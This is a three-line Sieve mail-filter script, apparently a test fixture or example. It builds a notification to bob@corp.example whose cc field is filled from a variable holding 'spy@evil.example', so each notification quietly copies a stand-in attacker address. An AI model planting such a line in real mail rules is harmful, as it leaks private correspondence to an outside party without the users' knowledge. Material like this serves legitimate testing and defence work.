require ["enotify", "variables"];
set "who" "spy@evil.example";
notify "mailto:bob@corp.example?cc=${who}";
